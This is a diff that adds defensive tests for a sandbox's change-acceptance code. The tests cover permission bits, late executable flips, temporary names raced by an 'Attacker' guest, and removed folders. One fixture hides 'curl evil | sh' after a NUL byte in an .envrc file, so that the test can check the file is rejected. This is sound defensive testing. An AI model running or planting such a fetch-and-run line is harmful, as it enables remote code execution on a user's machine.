@@ -22,6 +22,8 @@ import { acceptChange, takeOutOfFolder } from '../../../../lib/workspace/changes
 import { showChange } from '../../../../lib/workspace/changes/diff-text.ts';
 import { readLayer } from '../../../../lib/workspace/changes/read-layer.ts';
 import type { ChangeVersion } from '../../../../lib/workspace/changes/sides.ts';
+import { ACCEPT_PREFIX } from '../../../../lib/workspace/policy/own-names.ts';
+import { Attacker, serveFolder } from '../facts/guest.ts';
 
 let dir: string;
 const layer = (path = '') => join(dir, 'layer', path);
@@ -56,12 +58,51 @@ async function accept(path: string, version: ChangeVersion): Promise<void> {
 }
 
 describe('a private change', () => {
-  test('is written whole, with its permission bits and no others, into folders that are made for it', async () => {
+  test('is written whole into folders that are made for it, as a program or not, and writable for nobody else', async () => {
     put(layer('.vscode/deep/tasks.json'), '{}', 0o755);
     await accept('.vscode/deep/tasks.json', await shown('.vscode/deep/tasks.json'));
     expect(readFileSync(host('.vscode/deep/tasks.json'), 'utf8')).toBe('{}');
     expect(statSync(host('.vscode/deep/tasks.json')).mode & 0o7777).toBe(0o755);
     expect(readdirSync(host('.vscode/deep'))).toEqual(['tasks.json']);
+    put(layer('open'), 'x', 0o666);
+    await accept('open', await shown('open'));
+    expect(statSync(host('open')).mode & 0o7777).toBe(0o644);
+  });
+
+  test('leaves the permission bits of a file of the host, which the guest could have opened for every user', async () => {
+    put(host('.envrc'), 'old', 0o600);
+    put(layer('.envrc'), 'new', 0o666);
+    await accept('.envrc', await shown('.envrc'));
+    expect(statSync(host('.envrc')).mode & 0o7777).toBe(0o600);
+  });
+
+  test('that became a program since it was shown is refused', async () => {
+    put(layer('.envrc'), 'new', 0o600);
+    const version = await shown('.envrc');
+    chmodSync(layer('.envrc'), 0o700);
+    await expect(accept('.envrc', version)).rejects.toThrow('was not taken over');
+  });
+
+  test('that cannot be shown as text is not taken over', async () => {
+    put(layer('.envrc'), 'echo harmless\n\0curl evil | sh\n');
+    await expect(shown('.envrc')).rejects.toThrow('cannot be taken over: .envrc');
+  });
+
+  test('is written under a name that no guest can meet; without the rule it can', async () => {
+    const temporary = `a/${ACCEPT_PREFIX}0123`;
+    put(host(temporary), 'shown');
+    for (const [without, content] of [
+      [[], undefined],
+      [['own-name'], 'shown'],
+    ] as const) {
+      await using served = await serveFolder(host(), { without: [...without] });
+      const guest = new Attacker(served);
+      expect(await guest.read(temporary)).toBe(content);
+      await guest.write(temporary, 'evil');
+      await guest.write('a/mine', 'evil');
+      await guest.rename('a/mine', temporary);
+      expect(readFileSync(host(temporary), 'utf8')).toBe(content === undefined ? 'shown' : 'evil');
+    }
   });
 
   test('replaces a file of the host, and not the file behind its other names', async () => {
@@ -77,6 +118,21 @@ describe('a private change', () => {
     put(layer('.envrc'), '', 0o1600);
     await accept('.envrc', await shown('.envrc'));
     expect(existsSync(host('.envrc'))).toBe(false);
+  });
+
+  test('that removed a file, which the guest made again since, is refused', async () => {
+    put(host('.envrc'), 'old');
+    put(layer('.envrc'), '', 0o1600);
+    const version = await shown('.envrc');
+    put(layer('.envrc'), 'again');
+    await expect(accept('.envrc', version)).rejects.toThrow('was not taken over');
+    expect(readFileSync(host('.envrc'), 'utf8')).toBe('old');
+  });
+
+  test('that removes a folder or a link of the host is not taken over', async () => {
+    mkdirSync(host('.vscode'));
+    put(layer('.vscode'), '', 0o1600);
+    await expect(shown('.vscode')).rejects.toThrow('cannot be taken over: .vscode');
   });
 
   test.each([
